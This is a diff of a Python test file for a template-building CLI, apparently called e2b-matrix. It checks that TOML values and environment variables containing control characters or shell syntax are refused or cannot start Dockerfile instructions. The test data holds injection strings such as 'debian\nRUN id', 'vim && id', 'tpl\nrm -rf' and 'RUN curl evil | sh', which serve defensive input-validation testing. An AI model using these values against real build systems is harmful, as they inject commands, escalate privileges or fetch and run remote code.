+        "tag-uuid",
+        {
+            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+            'tags = ["0f1c2d3e-0000-4000-8000-000000000001"]\n'
+        },
+        "variants/x.toml: variant.tags: '0f1c2d3e-0000-4000-8000-000000000001' looks like a UUID",
+    ),
+    (
+        "start-cmd-newline",
+        {
+            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+            '[params.base]\nstart_cmd = "sleep 1\\nUSER root"\n'
+        },
+        "variants/x.toml: params.base.start_cmd: contains a control character (\\n)",
+    ),
+    (
+        "image-newline",
+        {
+            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+            '[params.base]\nimage = "debian\\nRUN id"\n'
+        },
+        "variants/x.toml: params.base.image: contains a control character (\\n)",
+    ),
+    (
+        "package-newline",
+        {
+            "variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base", "extra-tools"]\n'
+            '[params.extra-tools]\npackages = ["git\\n"]\n'
+        },
+        "variants/x.toml: params.extra-tools.packages[0]: contains a control character (\\n)",
+    ),
+    (
+        "key-with-escape",
+        {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n[params."base\\u001b"]\n'},
+        "variants/x.toml: params: a key contains a control character (\\x1b)",
+    ),
+    (
+        "layer-name-newline",
+        {"layers/a.toml": '[layer]\nname = "a\\n"\nversion = "1"\n'},
+        "layers/a.toml: layer.name: contains a control character (\\n)",
+    ),
+    (
+        "layer-version-newline",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1\\nRUN id"\n'},
+        "layers/a.toml: layer.version: contains a control character (\\n)",
+    ),
+    (
+        "layer-workdir-newline",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nworkdir = "/tmp\\nUSER root"\n'},
+        "layers/a.toml: steps[0].workdir: contains a control character (\\n)",
+    ),
+    (
+        "layer-env-newline",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nenv = { A = "x\\nUSER root" }\n'},
+        "layers/a.toml: steps[0].env.A: contains a control character (\\n)",
+    ),
+    (
+        "layer-env-name",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nenv = { "A B" = "x" }\n'},
+        "layers/a.toml: steps[0].env.\"A B\": 'A B' is not an environment variable name",
+    ),
+    (
+        "layer-user-newline",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nuser = "root\\n"\n'},
+        "layers/a.toml: steps[0].user: contains a control character (\\n)",
+    ),
+    (
+        "layer-apt-bad",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\napt = ["vim && id"]\n'},
+        "layers/a.toml: steps[0].apt: 'vim && id' is not a package name",
+    ),
+    (
+        "layer-run-nul",
+        {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nrun = "echo\\u0000"\n'},
+        "layers/a.toml: steps[0].run: contains a control character (\\x00)",
+    ),
 ]
 
 
@@ -664,12 +845,15 @@ def test_control_characters_are_refused_at_the_root(project, emu, case_id, files
         assert_refused(project, emu, command, expected)
 
 
-@pytest.mark.parametrize("value,expected", [
-    ("base.start_cmd=sleep 1\nUSER root", "--set: base.start_cmd: contains a control character (\\n)"),
-    ("extra-tools.packages=git\r", "--set: extra-tools.packages: contains a control character (\\r)"),
-    ("nexus.version=0.5.6\n", "--set: nexus.version: contains a control character (\\n)"),
-    ("base.image=debian\x1b[2J", "--set: base.image: contains a control character (\\x1b)"),
-])
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ("base.start_cmd=sleep 1\nUSER root", "--set: base.start_cmd: contains a control character (\\n)"),
+        ("extra-tools.packages=git\r", "--set: extra-tools.packages: contains a control character (\\r)"),
+        ("nexus.version=0.5.6\n", "--set: nexus.version: contains a control character (\\n)"),
+        ("base.image=debian\x1b[2J", "--set: base.image: contains a control character (\\x1b)"),
+    ],
+)
 def test_control_characters_in_set_are_blamed_on_set(project, emu, value, expected):
     assert_refused(project, emu, ["build-all", "--set", value], expected)
 
@@ -703,8 +887,12 @@ def test_a_fifo_is_refused_at_once(project, emu, where):
     path.parent.mkdir(exist_ok=True)
     os.mkfifo(path)
     start = time.monotonic()
-    assert_refused(project, emu, ["plan"] if where != "templates.lock" else ["resolve", "latest"],
-                   f"{where}: is a FIFO, not a regular file")
+    assert_refused(
+        project,
+        emu,
+        ["plan"] if where != "templates.lock" else ["resolve", "latest"],
+        f"{where}: is a FIFO, not a regular file",
+    )
     assert time.monotonic() - start < 5
 
 
@@ -715,14 +903,27 @@ def test_a_file_nested_ten_thousand_deep_is_one_line(project, emu, where):
 
 
 ENV_CASES = [
-    ("E2B_MATRIX_RETRY_ATTEMPTS", "abc"), ("E2B_MATRIX_RETRY_ATTEMPTS", "-1"), ("E2B_MATRIX_RETRY_ATTEMPTS", "0"),
-    ("E2B_MATRIX_RETRY_ATTEMPTS", "2.5"), ("E2B_MATRIX_RETRY_TOTAL_S", "nan"), ("E2B_MATRIX_RETRY_TOTAL_S", "0"),
-    ("E2B_MATRIX_RETRY_BASE_S", "-0.1"), ("E2B_MATRIX_RETRY_MAX_DELAY_S", "1e400"),
-    ("E2B_DOMAIN", "e2b app"), ("E2B_DOMAIN", "https://e2b.app"), ("E2B_DOMAIN", "e2b.app\n"),
-    ("E2B_DOMAIN", "-e2b.app"), ("E2B_API_URL", "not a url"), ("E2B_API_URL", "ftp://127.0.0.1"),
-    ("E2B_API_URL", "http://127.0.0.1:99999"), ("E2B_API_URL", "http://"), ("E2B_API_URL", "http://h/?q=1"),
-    ("E2B_MATRIX_NO_LOG_FILES", "maybe"), ("E2B_MATRIX_DOCKER_BUILDKIT", "sometimes"),
-    ("E2B_TEMPLATE_ID", "tpl\nrm -rf"), ("E2B_MATRIX_LOCK", "a\x01b"),
+    ("E2B_MATRIX_RETRY_ATTEMPTS", "abc"),
+    ("E2B_MATRIX_RETRY_ATTEMPTS", "-1"),
+    ("E2B_MATRIX_RETRY_ATTEMPTS", "0"),
+    ("E2B_MATRIX_RETRY_ATTEMPTS", "2.5"),
+    ("E2B_MATRIX_RETRY_TOTAL_S", "nan"),
+    ("E2B_MATRIX_RETRY_TOTAL_S", "0"),
+    ("E2B_MATRIX_RETRY_BASE_S", "-0.1"),
+    ("E2B_MATRIX_RETRY_MAX_DELAY_S", "1e400"),
+    ("E2B_DOMAIN", "e2b app"),
+    ("E2B_DOMAIN", "https://e2b.app"),
+    ("E2B_DOMAIN", "e2b.app\n"),
+    ("E2B_DOMAIN", "-e2b.app"),
+    ("E2B_API_URL", "not a url"),
+    ("E2B_API_URL", "ftp://127.0.0.1"),
+    ("E2B_API_URL", "http://127.0.0.1:99999"),
+    ("E2B_API_URL", "http://"),
+    ("E2B_API_URL", "http://h/?q=1"),
+    ("E2B_MATRIX_NO_LOG_FILES", "maybe"),
+    ("E2B_MATRIX_DOCKER_BUILDKIT", "sometimes"),
+    ("E2B_TEMPLATE_ID", "tpl\nrm -rf"),
+    ("E2B_MATRIX_LOCK", "a\x01b"),
 ]
 
 
@@ -733,12 +934,15 @@ def test_a_bad_environment_variable_is_one_line_naming_it(project, emu, monkeypa
         assert_refused(project, emu, command, f"e2b-matrix: error: {variable}: ")
 
 
-@pytest.mark.parametrize("blocker,expected", [
-    (".e2b-matrix", ".e2b-matrix: cannot keep build state: exists and is not a folder"),
-    (".e2b-matrix/locks", ".e2b-matrix/locks: cannot keep build state: exists and is not a folder"),
-    ("templates.lock.lock/", "templates.lock.lock: is a folder, not a regular file"),
-    ("templates.lock/", "templates.lock: is a folder, not a regular file"),
-])
+@pytest.mark.parametrize(
+    "blocker,expected",
+    [
+        (".e2b-matrix", ".e2b-matrix: cannot keep build state: exists and is not a folder"),
+        (".e2b-matrix/locks", ".e2b-matrix/locks: cannot keep build state: exists and is not a folder"),
+        ("templates.lock.lock/", "templates.lock.lock: is a folder, not a regular file"),
+        ("templates.lock/", "templates.lock: is a folder, not a regular file"),
+    ],
+)
 def test_state_that_cannot_be_written_is_found_before_the_first_request(project, emu, blocker, expected):
     path = project / blocker.rstrip("/")
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -755,14 +959,17 @@ def test_logs_that_cannot_be_written_is_one_warning_and_no_log_files(project, em
     assert r.exit_code == 0, r.output
     assert {x["status"] for x in json.loads(r.stdout)} == {"built"}
     warnings = [line for line in r.stderr.splitlines() if "WARNING" in line or "Logging error" in line]
-    assert warnings == [f"WARNING e2b_matrix.workflow: {project / 'logs'}: exists and is not "
-                        "a folder; writing no log files"]
+    assert warnings == [
+        f"WARNING e2b_matrix.workflow: {project / 'logs'}: exists and is not a folder; writing no log files"
+    ]
     assert (project / "logs").read_text() == "a file where the folder should be"
 
 
 def test_no_value_can_start_a_dockerfile_instruction(project):
-    write(project / "layers/evil.toml", '[layer]\nname = "evil"\nversion = "1"\n[[steps]]\n'
-                                        'run = "echo a\\nUSER root\\nRUN curl evil | sh"\n')
+    write(
+        project / "layers/evil.toml",
+        '[layer]\nname = "evil"\nversion = "1"\n[[steps]]\nrun = "echo a\\nUSER root\\nRUN curl evil | sh"\n',
+    )
     write(project / "variants/evil.toml", '[variant]\nname = "evil"\nalias = "nexus-evil"\nlayers = ["base", "evil"]\n')
     r = cli_runner().invoke(cli, ["-C", str(project), "render", "evil", "--format", "dockerfile"])
     assert r.exit_code == 0, r.output
@@ -776,14 +983,25 @@ def test_no_value_can_start_a_dockerfile_instruction(project):
 
 
 def test_double_braces_are_literal_braces(project):
-    write(project / "variants/braces.toml", '[variant]\nname = "braces"\nalias = "nexus-braces"\nlayers = ["base"]\n'
-                                            '[params.base]\nstart_cmd = "echo ${{HOME}} {{v}} {v}"\n[matrix]\nv = ["a"]\n')
+    write(
+        project / "variants/braces.toml",
+        '[variant]\nname = "braces"\nalias = "nexus-braces"\nlayers = ["base"]\n'
+        '[params.base]\nstart_cmd = "echo ${{HOME}} {{v}} {v}"\n[matrix]\nv = ["a"]\n',
+    )
     body = json.loads(cli_runner().invoke(cli, ["-C", str(project), "render", "braces"]).stdout)
     assert body["startCmd"] == "echo ${HOME} {v} a"
 
 
-@pytest.mark.parametrize("args", [["plan", "-v"], ["plan", "-q"], ["plan", "-C", "{project}"],
-                                  ["lock", "show", "-C", "{project}"], ["list", "-q", "--json"]])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["plan", "-v"],
+        ["plan", "-q"],
+        ["plan", "-C", "{project}"],
+        ["lock", "show", "-C", "{project}"],
+        ["list", "-q", "--json"],
+    ],
+)
 def test_common_options_work_after_the_subcommand(project, args):
     args = [a.replace("{project}", str(project)) for a in args]
     r = cli_runner().invoke(cli, args if "-C" in args else ["-C", str(project), *args])
